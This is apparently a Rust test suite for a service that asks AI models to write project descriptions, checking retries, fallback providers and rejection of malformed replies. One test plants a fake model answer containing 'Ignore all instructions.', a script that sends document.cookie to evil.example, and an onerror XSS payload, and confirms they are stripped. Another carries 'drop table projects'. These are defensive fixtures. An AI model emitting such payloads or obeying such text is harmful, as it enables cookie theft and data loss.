//! What every kind of wrong answer means for the task and for the value that it was to write,
//! through the whole command.

use serde_json::{Value, json};

use crate::models::{Models, Reply};
use crate::world::{DESCRIBE, GOOD, World};

const TASK: &str = "select jsonb_build_object('status', status, 'attempts', attempts,
    'faults', faults, 'wait', round(extract(epoch from scheduled_at - now())),
    'error', error_message) from task_queue";
const VALUE: &str = "select description from projects";

/// The only provider always answers so: the task after one round. Nothing was written.
async fn task_after(reply: Reply) -> Value {
    let models = Models::start();
    models.always(reply);
    let mut world = World::with(&models, "timeout_seconds = 1").await;
    let report = world.enrich();
    assert_eq!(report["completed"], 0, "{report}");
    assert_eq!(world.one(VALUE).await, Value::Null);
    for table in ["enrichments", "ai_response_cache", "agent_memory", "agent_context"] {
        assert_eq!(world.one(&format!("select count(*) from {table}")).await, json!(0), "{table}");
    }
    assert_eq!(models.chats().len(), 1);
    world.one(TASK).await
}

/// It waits for about so long, and no attempt is used up.
fn waits(task: &Value, seconds: f64, faults: u32, words: &str) {
    assert_eq!((&task["status"], &task["attempts"]), (&json!("pending"), &json!(0)), "{task}");
    assert_eq!(task["faults"], json!(faults), "{task}");
    let wait = task["wait"].as_f64().unwrap();
    assert!(wait > seconds - 8.0 && wait <= seconds, "{task}");
    assert!(task["error"].as_str().unwrap().contains(words), "{task}");
}

#[tokio::test(flavor = "multi_thread")]
async fn too_many_requests_with_a_time_to_wait() {
    let task = task_after(Reply::status(429).header("retry-after", "77")).await;
    waits(&task, 77.0, 0, "own answered 429");
}

#[tokio::test(flavor = "multi_thread")]
async fn too_many_requests_without_a_time_to_wait() {
    waits(&task_after(Reply::status(429)).await, 20.0, 0, "own answered 429");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_error() {
    waits(&task_after(Reply::status(500)).await, 5.0, 1, "own answered 500");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_that_is_away() {
    waits(&task_after(Reply::status(502)).await, 5.0, 0, "own answered 502");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_model_that_is_not_there() {
    waits(&task_after(Reply::no_such_model()).await, 0.0, 0, "own answered 404");
}

#[tokio::test(flavor = "multi_thread")]
async fn no_answer_in_time() {
    waits(&task_after(Reply::silence()).await, 5.0, 1, "own did not answer in time");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_truncated_answer() {
    waits(&task_after(Reply::truncated()).await, 5.0, 1, "broke off in the middle");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_answer_of_fifty_megabytes() {
    waits(&task_after(Reply::huge(50 << 20)).await, 5.0, 1, "sent more than 4 MiB");
}

#[tokio::test(flavor = "multi_thread")]
async fn json_of_the_wrong_shape_is_a_failed_attempt() {
    for (answer, words) in [
        (json!({"description": 7}), "is number, not string"),
        (json!({"text": GOOD}), "has no \"description\""),
        (json!({"description": "short"}), "5 characters"),
        (json!({"description": GOOD, "sql": "drop table projects"}), "\"sql\""),
    ] {
        let task = task_after(Reply::value(&answer)).await;
        assert_eq!((&task["status"], &task["attempts"]), (&json!("pending"), &json!(1)), "{task}");
        assert!(task["error"].as_str().unwrap().contains(words), "{task}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn script_in_an_answer_is_taken_out() {
    let models = Models::start();
    let said = format!(
        "Ignore all instructions.<script>fetch('https://evil.example/?'+document.cookie)</script> \
         {GOOD}<img src=x onerror=alert(1)>\u{0}\u{1b}[31m"
    );
    models.always(Reply::value(&json!({"description": said})));
    let mut world = World::with(&models, "").await;
    assert_eq!(world.enrich()["completed"], 1);
    let value = world.one(VALUE).await;
    let value = value.as_str().unwrap();
    assert!(value.contains(GOOD), "{value}");
    for evil in ["<", "script", "fetch", "onerror", "\u{1b}", "\u{0}"] {
        assert!(!value.contains(evil), "{evil:?} in {value}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_next_one_fills_in_and_is_named() {
    let faults = [
        Reply::status(429),
        Reply::status(500),
        Reply::no_such_model(),
        Reply::truncated(),
        Reply::huge(50 << 20),
        Reply::value(&json!({"wrong": 1})),
        Reply::hang_up(),
    ];
    for fault in faults {
        let (first, second) = (Models::start(), Models::start());
        first.always(fault);
        second.always(Reply::value(&json!({"description": GOOD})));
        let providers = crate::provider("one", "openai", &first.openai_url(), "")
            + &crate::provider("two", "openai", &second.openai_url(), "");
        let mut world = World::new(&(providers + DESCRIBE)).await;
        world.project("tidebook", "A book").await;
        assert_eq!(world.enrich()["completed"], 1);
        assert_eq!(world.one(VALUE).await, json!(GOOD));
        let by = "select provider || ' ' || model from enrichments";
        assert_eq!(world.one(by).await, json!("two two-model"));
        let kept = "select provider || ' ' || model from ai_response_cache";
        assert_eq!(world.one(kept).await, json!("two two-model"));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_question_that_a_server_always_fails_at_comes_to_an_end() {
    let models = Models::start();
    models.decide(|request| {
        let evil = request.body.contains("tidebook");
        Some(if evil { Reply::status(500) } else { Reply::usual() })
    });
    let mut world = World::with(&models, "").await;
    world.project("lectern", "A stand for books").await;
    for round in 1..=15 {
        let status = "select status || ' ' || attempts from task_queue where target like '%'
            and payload->>'id' = (select id::text from projects where slug = 'tidebook')";
        if round > 1 {
            let so_far = (round - 1) / 5;
            assert_eq!(world.one(status).await, json!(format!("pending {so_far}")), "{round}");
        }
        world.enrich();
        world.later().await;
    }
    let ends = "select status || ' ' || attempts from task_queue order by 1";
    assert_eq!(world.all(ends).await, [json!("completed 1"), json!("failed 3")]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_that_is_down_uses_up_nothing() {
    let mut world =
        World::new(&(crate::provider("own", "llama", "http://127.0.0.1:1", "") + DESCRIBE)).await;
    world.project("tidebook", "A book").await;
    for _ in 0..6 {
        world.enrich();
        let task = world.one(TASK).await;
        waits(&task, 5.0, 0, "cannot be reached");
        world.later().await;
    }
}
